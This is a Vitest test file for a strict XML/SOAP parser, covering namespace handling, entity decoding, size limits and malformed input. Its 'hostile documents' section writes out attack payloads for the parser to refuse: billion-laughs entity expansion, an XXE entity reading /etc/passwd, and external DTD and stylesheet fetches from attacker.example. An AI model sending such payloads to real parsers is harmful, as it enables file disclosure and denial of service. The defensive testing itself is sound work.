import { describe, expect, it } from 'vitest';
import { attribute, child, childText, childrenNamed } from './element.ts';
import { DEFAULT_XML_LIMITS, parseXml, XMLNS_NAMESPACE, XmlRejected, type XmlRejectionCode } from './parse.ts';

function rejection(text: string, limits = {}): XmlRejected {
  try {
    parseXml(text, limits);
  } catch (err) {
    expect(err).toBeInstanceOf(XmlRejected);
    return err as XmlRejected;
  }
  throw new Error('expected the document to be refused');
}

function expectRefused(text: string, code: XmlRejectionCode, limits = {}): XmlRejected {
  const err = rejection(text, limits);
  expect(err.code, err.message).toBe(code);
  return err;
}

const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const TYPES = 'http://bip.bee.kz/SyncChannel/v10/Types';

describe('parseXml: what it accepts', () => {
  it('resolves prefixes, default namespaces and xmlns="" undeclaring', () => {
    const root = parseXml(`<?xml version="1.0" encoding="UTF-8"?>
      <soap:Envelope xmlns:soap="${SOAP}" xmlns:v10="${TYPES}">
        <soap:Body>
          <v10:SendMessage>
            <request xmlns="">
              <requestInfo><messageId>m-1</messageId></requestInfo>
            </request>
          </v10:SendMessage>
        </soap:Body>
      </soap:Envelope>`);
    expect(root).toMatchObject({ name: 'Envelope', ns: SOAP, prefix: 'soap' });
    const send = child(child(root, 'Body', SOAP), 'SendMessage', TYPES);
    expect(send?.prefix).toBe('v10');
    const request = child(send, 'request', '');
    expect(request).toBeDefined();
    expect(childText(child(request, 'requestInfo', ''), 'messageId', '')).toBe('m-1');
  });

  it('applies a default namespace to elements but not to attributes', () => {
    const root = parseXml('<a xmlns="urn:x" xmlns:p="urn:p" plain="1" p:q="2"><b/></a>');
    expect(root.ns).toBe('urn:x');
    expect(root.children[0]).toMatchObject({ name: 'b', ns: 'urn:x', prefix: '' });
    expect(attribute(root, 'plain')).toBe('1');
    expect(attribute(root, 'q', 'urn:p')).toBe('2');
    expect(attribute(root, 'q')).toBeUndefined();
  });

  it('keeps namespace declarations as attributes in the xmlns namespace', () => {
    const root = parseXml('<a xmlns="urn:x" xmlns:p="urn:p"/>');
    expect(root.attributes).toEqual(
      expect.arrayContaining([
        { name: 'xmlns', ns: XMLNS_NAMESPACE, prefix: '', value: 'urn:x' },
        { name: 'p', ns: XMLNS_NAMESPACE, prefix: 'xmlns', value: 'urn:p' },
      ]),
    );
  });

  it('re-binds a prefix in an inner scope', () => {
    const root = parseXml('<p:a xmlns:p="urn:1"><p:b xmlns:p="urn:2"><p:c/></p:b><p:d/></p:a>');
    expect(root.ns).toBe('urn:1');
    expect(root.children[0]!.ns).toBe('urn:2');
    expect(root.children[0]!.children[0]!.ns).toBe('urn:2');
    expect(root.children[1]!.ns).toBe('urn:1');
  });

  it('resolves the xml prefix without a declaration', () => {
    const root = parseXml('<a xml:lang="kk"/>');
    expect(attribute(root, 'lang', 'http://www.w3.org/XML/1998/namespace')).toBe('kk');
  });

  it('joins CDATA with the surrounding text and keeps markup inside CDATA as text', () => {
    const root = parseXml('<a>x<![CDATA[<b>&amp;</b>]]>y</a>');
    expect(root.text).toBe('x<b>&amp;</b>y');
    expect(root.children).toHaveLength(0);
  });

  it('decodes character references, decimal and hexadecimal, including astral characters', () => {
    expect(parseXml('<a>&#1178;&#x49B;&#x1F600;</a>').text).toBe('Ққ😀');
  });

  it('decodes the five predefined entities in text and attributes', () => {
    const root = parseXml('<a t="&lt;&amp;&quot;&apos;&gt;">&lt;&gt;&amp;&quot;&apos;</a>');
    expect(root.text).toBe('<>&"\'');
    expect(attribute(root, 't')).toBe('<&"\'>');
  });

  it('normalises line ends in text and whitespace in attribute values, as XML 1.0 says', () => {
    const root = parseXml('<a v="x\ty\r\nz">1\r\n2\r3</a>');
    expect(root.text).toBe('1\n2\n3');
    expect(attribute(root, 'v')).toBe('x y z');
  });

  it('lets an inner scope re-declare the default namespace and an outer binding come back after it', () => {
    const root = parseXml('<a xmlns="urn:1"><b xmlns="urn:2"/><c/></a>');
    expect(root.children.map((c) => c.ns)).toEqual(['urn:2', 'urn:1']);
  });

  it('keeps Cyrillic and Kazakh text intact', () => {
    expect(parseXml('<name>ҚАЗАҚСТАН Әйел Өңделу</name>').text).toBe('ҚАЗАҚСТАН Әйел Өңделу');
  });

  it('skips comments and accepts a byte-order mark', () => {
    const root = parseXml('\uFEFF<!-- a comment --><a><!-- inside -->t</a><!-- after -->');
    expect(root.text).toBe('t');
  });

  it('keeps children in document order and finds them by name', () => {
    const root = parseXml('<r><p><k>a</k></p><x/><p><k>b</k></p></r>');
    expect(root.children.map((c) => c.name)).toEqual(['p', 'x', 'p']);
    expect(childrenNamed(root, 'p').map((p) => childText(p, 'k'))).toEqual(['a', 'b']);
  });

  it('accepts a document exactly at every limit', () => {
    const limits = { maxDepth: 3, maxElements: 4, maxAttributes: 2, maxAttributeLength: 5, maxTextLength: 5 };
    const doc = '<a x="12345" y="1"><b><c>12345</c></b><d/></a>';
    expect(() => parseXml(doc, limits)).not.toThrow();
    expect(() => parseXml(doc, { maxBytes: Buffer.byteLength(doc) })).not.toThrow();
  });

  it('has the documented defaults', () => {
    expect(DEFAULT_XML_LIMITS).toEqual({
      maxBytes: 1_048_576,
      maxDepth: 64,
      maxElements: 10_000,
      maxAttributes: 64,
      maxAttributeLength: 65_536,
      maxTextLength: 524_288,
    });
  });
});

describe('parseXml: hostile documents', () => {
  it('refuses a DOCTYPE, even an empty one', () => {
    expectRefused('<!DOCTYPE a><a/>', 'dtd');
  });

  it('refuses a billion-laughs document at the doctype, before any expansion', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const err = expectRefused(lol, 'dtd');
    expect(err.message).toMatch(/DOCTYPE/);
  });

  it('refuses an external-entity (XXE) document reading file:///etc/passwd', () => {
    const xxe = `<?xml version="1.0"?>
      <!DOCTYPE foo [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
      <soap:Envelope xmlns:soap="${SOAP}"><soap:Body><x>&xxe;</x></soap:Body></soap:Envelope>`;
    const err = expectRefused(xxe, 'dtd');
    expect(err.message).not.toContain('root:');
  });

  it('refuses an external DTD subset and a parameter-entity XXE', () => {
    expectRefused('<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>', 'dtd');
    expectRefused('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><a/>', 'dtd');
  });

  it('refuses a reference to an undefined entity', () => {
    expectRefused('<a>&nbsp;</a>', 'entity');
    expectRefused('<a>&xxe;</a>', 'entity');
    expectRefused('<a t="&xxe;"/>', 'entity');
  });

  it('does not resolve names from the Object prototype as entities', () => {
    expectRefused('<a>&constructor;</a>', 'entity');
    expectRefused('<a>&__proto__;</a>', 'entity');
  });

  it('refuses processing instructions but accepts the XML declaration', () => {
    expectRefused('<?xml-stylesheet href="http://attacker.example/x.xsl"?><a/>', 'pi');
    expectRefused('<a><?php echo 1; ?></a>', 'pi');
    expect(() => parseXml('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a/>')).not.toThrow();
  });

  it('refuses a 100 000-deep document fast, without overflowing the stack', () => {
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    const err = expectRefused(deep, 'depth');
    expect(err.message).toMatch(/deeper than 64/);
  });

  it('refuses depth one over the limit', () => {
    expectRefused('<a><b><c/></b></a>', 'depth', { maxDepth: 2 });
  });

  it('refuses too many elements', () => {
    expectRefused(`<r>${'<e/>'.repeat(10_000)}</r>`, 'elements');
    expectRefused('<a><b/><c/></a>', 'elements', { maxElements: 2 });
  });

  it('refuses too many attributes on one element', () => {
    const attrs = Array.from({ length: 65 }, (_, i) => `a${i}="v"`).join(' ');
    expectRefused(`<a ${attrs}/>`, 'attributes');
  });

  it('refuses a huge attribute value', () => {
    expectRefused(`<a v="${'x'.repeat(70_000)}"/>`, 'attribute-length');
  });

  it('refuses a huge text node, including one built from CDATA', () => {
    expectRefused(`<a>${'x'.repeat(600_000)}</a>`, 'text-length');
    expectRefused('<a>123<![CDATA[456]]></a>', 'text-length', { maxTextLength: 5 });
  });

  it('refuses a document over the size limit before parsing it', () => {
    const big = `<a>${'x'.repeat(1024 * 1024)}</a>`;
    const err = expectRefused(big, 'size');
    expect(err.line).toBeUndefined();
    // Even a document that would be malformed is refused for size first: the parser never runs.
    expectRefused('<'.repeat(2 * 1024 * 1024), 'size');
  });

  it('counts the size in UTF-8 bytes, not characters', () => {
    const text = `<a>${'Қ'.repeat(600)}</a>`; // 607 characters, 1207 bytes
    expect(() => parseXml(text, { maxBytes: 1300 })).not.toThrow();
    expectRefused(text, 'size', { maxBytes: 1000 });
  });
});

describe('parseXml: malformed documents', () => {
  it.each([
    ['an unclosed tag', '<a><b></a>'],
    ['an unclosed root', '<a><b></b>'],
    ['a truncated document', '<soap:Envelope xmlns:soap="x"><soap:Bo'],
    ['a mismatched close tag', '<a></b>'],
    ['two roots', '<a/><b/>'],
    ['text outside the root', 'hello <a/>'],
    ['an empty document', ''],
    ['only whitespace', '   \n  '],
    ['an unbound prefix', '<p:a/>'],
    ['an unbound attribute prefix', '<a p:x="1"/>'],
    ['a duplicate attribute', '<a x="1" x="2"/>'],
    ['a duplicate attribute through two prefixes', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:x="1" q:x="2"/>'],
    ['an unquoted attribute', '<a x=1/>'],
    ['a bare ampersand', '<a>fish & chips</a>'],
    ['a bare less-than in an attribute', '<a x="<"/>'],
    ['a NUL character reference', '<a>&#0;</a>'],
    ['a control character', '<a>\u0001</a>'],
    ['JSON', '{"messageId": "1"}'],
    ['an XML declaration not at the start', ' <a/><?xml version="1.0"?>'],
    ['an XML declaration without a version', '<?xml encoding="UTF-8"?><a/>'],
    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>'],
    ['an undeclared prefix binding (xmlns:p="")', '<a xmlns:p=""/>'],
    ['the xml prefix bound elsewhere', '<a xmlns:xml="urn:other"/>'],
    ['a declaration of the xmlns prefix', '<a xmlns:xmlns="urn:x"/>'],
    ['an unterminated comment', '<a><!-- no end</a>'],
    ['a double hyphen inside a comment', '<a><!-- a -- b --></a>'],
    ['an unterminated CDATA section', '<a><![CDATA[ no end</a>'],
    ['"]]>" in text', '<a>x]]>y</a>'],
    ['a close tag with no open tag', '</a>'],
    ['attributes without whitespace between them', '<a x="1"y="2"/>'],
    ['a surrogate character reference', '<a>&#xD800;</a>'],
    ['a character reference past U+10FFFF', '<a>&#x110000;</a>'],
  ])('refuses %s', (_what, text) => {
    expectRefused(text, 'malformed');
  });

  it('refuses garbage bytes', () => {
    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256)).toString('latin1');
    const err = rejection(garbage);
    expect(['malformed', 'entity']).toContain(err.code);
  });

  it('refuses random binary decoded as UTF-8 (replacement characters, NULs)', () => {
    const bin = Buffer.from([0x00, 0xff, 0xfe, 0x3c, 0x61, 0x3e, 0x00, 0x9f, 0x3c, 0x2f, 0x61, 0x3e]).toString('utf8');
    expectRefused(bin, 'malformed');
  });

  it('gives a position for a well-formedness error', () => {
    const err = expectRefused('<a>\n  <b>\n</a>', 'malformed');
    expect(err.line).toBe(3);
    expect(err.message).toMatch(/line 3/);
  });

  it('refuses a non-string argument as malformed rather than crashing', () => {
    expectRefused(undefined as unknown as string, 'malformed');
  });

  it('only ever throws XmlRejected, for every prefix of a real envelope', () => {
    const env = `<?xml version="1.0"?><s:Envelope xmlns:s="${SOAP}"><s:Body><v:SendMessage xmlns:v="${TYPES}"><request xmlns=""><requestInfo><messageId>1</messageId></requestInfo></request></v:SendMessage></s:Body></s:Envelope>`;
    for (let i = 0; i < env.length; i++) {
      try {
        parseXml(env.slice(0, i));
      } catch (err) {
        expect(err).toBeInstanceOf(XmlRejected);
      }
    }
    expect(() => parseXml(env)).not.toThrow();
  });
});
